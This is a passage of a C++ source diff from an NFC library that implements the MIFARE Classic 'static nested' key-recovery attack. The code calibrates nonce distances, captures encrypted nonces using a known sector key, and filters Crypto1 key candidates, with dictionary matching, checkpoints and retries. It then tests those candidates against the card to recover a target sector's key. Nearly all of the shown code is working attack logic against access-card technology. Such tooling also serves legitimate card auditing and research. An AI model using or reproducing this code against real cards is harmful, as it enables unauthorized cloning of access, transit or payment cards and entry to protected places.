+            while (dists.size() < depth) {
+                if (!auth(true, nt_n)) break;
+                auto dist = nonce_distance(nt_1, nt_n);
+                // Not on the same PRNG sequence, or going backwards.
+                if (prng_successor(nt_1, dist) != nt_n
+                    || (!dists.empty() && dist <= dists.back())) {
+                    break;
+                }
+                dists.push_back(dist);
+            }
+        } catch (const NfcException& e) {
+            if (e.error_code() != NfcError::RFTRANS
+                && e.error_code() != NfcError::INVARG) {
+                throw;
+            }
         }
-        std::this_thread::sleep_for(100ms);
+        if (dists.size() != depth) continue;
+
+        valid++;
+        for (auto d : std::views::iota(0uz, depth)) {
+            histograms[d][dists[d]]++;
+        }
+    }
+
+    if (!valid) {
+        throw std::runtime_error("Unable to measure the nonce distance.");
     }
 
-    auto end_time = steady_clock::now();
+    NonceCalibration ret{{}, 1.0, valid};
+    for (auto& histogram : histograms) {
+        auto mode = std::ranges::max_element(histogram, {}, [](auto& entry) {
+            return entry.second;
+        });
+        ret.distances.push_back(mode->first);
+        ret.confidence = std::min(
+            ret.confidence,
+            static_cast<double>(mode->second) / valid
+        );
 
-    auto attack_result = worker_future.get();
+        std::vector<std::pair<std::uint32_t, std::size_t>> others;
+        for (auto& entry : histogram) {
+            if (entry.first != mode->first) others.push_back(entry);
+        }
+        std::ranges::stable_sort(others, std::ranges::greater{}, [](auto& e) {
+            return e.second;
+        });
+        auto& alternatives = ret.alternatives.emplace_back();
+        for (auto& [dist, count] : others) {
+            alternatives.push_back(dist);
+        }
+    }
+    return ret;
+}
+
+std::vector<EncryptedNonce> capture(
+    MifareClassicInitiator&    mf_initiator,
+    const ISO14443ACard&       card,
+    std::uint8_t               block,
+    MifareKey                  key_type,
+    std::uint64_t              key,
+    std::uint8_t               target_block,
+    MifareKey                  target_key_type,
+    const NonceCalibration&    calibration,
+    const StaticNestedOptions& options
+) {
+    std::vector<EncryptedNonce> previous;
+    for (auto attempt = 0uz;; attempt++) {
+        auto ret = capture_once(
+            mf_initiator,
+            card,
+            block,
+            key_type,
+            key,
+            target_block,
+            target_key_type,
+            calibration,
+            options,
+            attempt
+        );
+        if (check_capture(ret) || attempt >= options.max_retries) return ret;
+        if (attempt && ret == previous) {
+            std::println("!!! warning: the same nonces again, giving up.");
+            return ret;
+        }
+        previous = std::move(ret);
+    }
+}
+
+std::optional<std::vector<std::uint64_t>> recover_filtered_candidates(
+    std::span<const EncryptedNonce> nt_encs,
+    std::uint32_t                   nuid,
+    const StaticNestedOptions&      options,
+    std::stop_token                 token
+) {
+    auto extra_nonces = nt_encs.subspan(2);
+
+    std::atomic<std::size_t>   found{};
+    std::atomic<bool>          too_many{};
+    std::vector<std::uint64_t> ret;
+    std::mutex                 ret_mutex;
+
+    stream_cached_candidates(
+        nt_encs.first<2>(),
+        nuid,
+        options,
+        [&](std::span<const std::uint64_t> candidates) {
+            found.fetch_add(candidates.size(), std::memory_order_relaxed);
+            if (options.max_candidates && found > options.max_candidates) {
+                too_many = true;
+                return false;
+            }
+            std::vector<std::uint64_t> keys;
+            for (auto candidate : candidates) {
+                auto key = Crypto1State::unpack(candidate).lfsr();
+                if (verify_key(key, extra_nonces, nuid)) keys.push_back(key);
+            }
+            std::scoped_lock lock(ret_mutex);
+            ret.append_range(keys);
+            return !token.stop_requested();
+        }
+    );
+
+    if (token.stop_requested() || too_many || ret.empty()) return std::nullopt;
+    return ret;
+}
+
+StaticNestedResult test_candidates(
+    MifareClassicInitiator&        mf_initiator,
+    const ISO14443ACard&           card,
+    std::uint8_t                   target_block,
+    MifareKey                      target_key_type,
+    std::span<const std::uint64_t> candidates,
+    const StaticNestedOptions&     options
+) {
+    using namespace std::chrono;
+
+    util::BoundedQueue<QueuedKey> candidate_queue(candidates.size() + 1);
+    SweepState                    state;
+
+    state.total        = candidates.size();
+    state.offline_done = true;
+    for (auto candidate : candidates) {
+        candidate_queue.push({state.queued++, candidate});
+    }
+    candidate_queue.close();
+
+    util::emit_event(
+        options.events,
+        "phase_start",
+        {{"phase", "online"}, {"block", target_block}}
+    );
+
+    auto start_time = steady_clock::now();
+
+    std::optional<std::uint64_t> result;
+    {
+        std::jthread reporter(
+            test_candidate_keys_reporter,
+            std::ref(state),
+            target_block,
+            std::cref(options)
+        );
+        result = sweep_readers(
+            {},
+            state,
+            mf_initiator,
+            card,
+            target_block,
+            target_key_type,
+            candidate_queue,
+            options
+        );
+    }
+
+    util::emit_event(
+        options.events,
+        "phase_end",
+        {{"phase", "online"},
+         {"block", target_block},
+         {"tested", state.tested.load()},
+         {"success", result.has_value()}}
+    );
 
     return {
-        attack_result.has_value(),
-        attack_result ? *attack_result : 0,
-        duration_cast<seconds>(end_time - start_time),
-        progress + 1
+        result.has_value(),
+        result.value_or(0),
+        duration_cast<seconds>(steady_clock::now() - start_time),
+        state.tested + 1
     };
 }
 
+StaticNestedResult execute(
+    MifareClassicInitiator&         mf_initiator,
+    const ISO14443ACard&            card,
+    std::uint8_t                    block,
+    MifareKey                       key_type,
+    std::uint64_t                   key,
+    std::uint8_t                    target_block,
+    MifareKey                       target_key_type,
+    const NonceCalibration&         calibration,
+    const StaticNestedOptions&      options,
+    std::span<const EncryptedNonce> captured
+) {
+    using namespace std::chrono;
+
+    auto start_time = steady_clock::now();
+    auto tested     = 0uz;
+
+    std::optional<SweepProgress> resumed;
+    if (options.checkpoint) {
+        resumed = options.checkpoint->find(card, target_block, target_key_type);
+    }
+    if (resumed) {
+        std::println(
+            "Resuming from the checkpoint, {} candidate keys already tested.",
+            resumed->tested
+        );
+        captured = resumed->nt_encs;
+    }
+
+    std::vector<EncryptedNonce> previous;
+    for (auto attempt = 0uz;; attempt++) {
+        auto retry   = attempt < options.max_retries;
+        auto nt_encs = attempt == 0 && !captured.empty()
+                         ? std::ranges::to<std::vector>(captured)
+                         : capture_once(
+                               mf_initiator,
+                               card,
+                               block,
+                               key_type,
+                               key,
+                               target_block,
+                               target_key_type,
+                               calibration,
+                               options,
+                               attempt
+                           );
+
+        // A static nonce tag with no other distance to try captures the very
+        // same nonces again, the retries left are no use.
+        if (attempt && retry && nt_encs == previous) {
+            std::println("!!! warning: the same nonces again, giving up.");
+            retry = false;
+        }
+        previous = nt_encs;
+
+        if (!check_capture(nt_encs) && retry) continue;
+
+        // The dictionary was only matched against the captured nonces.
+        if (options.dictionary && (attempt || captured.empty())) {
+            auto matches = match_dictionary(
+                *options.dictionary,
+                nt_encs,
+                card.nuid,
+                options.threads
+            );
+            if (!matches.empty()) {
+                auto result = test_candidates(
+                    mf_initiator,
+                    card,
+                    target_block,
+                    target_key_type,
+                    matches,
+                    options
+                );
+                tested += result.tested_key_count - 1;
+                if (result.success) {
+                    return {
+                        true,
+                        result.key,
+                        duration_cast<seconds>(
+                            steady_clock::now() - start_time
+                        ),
+                        tested + 1
+                    };
+                }
+            }
+        }
+
+        std::atomic<bool> bad_capture{};
+
+        auto result = crack(
+            mf_initiator,
+            card,
+            target_block,
+            target_key_type,
+            nt_encs,
+            options,
+            retry,
+            bad_capture,
+            tested,
+            attempt == 0 && resumed ? &*resumed : nullptr
+        );
+        if (!result && bad_capture) continue;
+
+        return {
+            result.has_value(),
+            result.value_or(0),
+            duration_cast<seconds>(steady_clock::now() - start_time),
+            tested + 1
+        };
+    }
+}
+
 } // namespace nfcpp::static_nested
\ No newline at end of file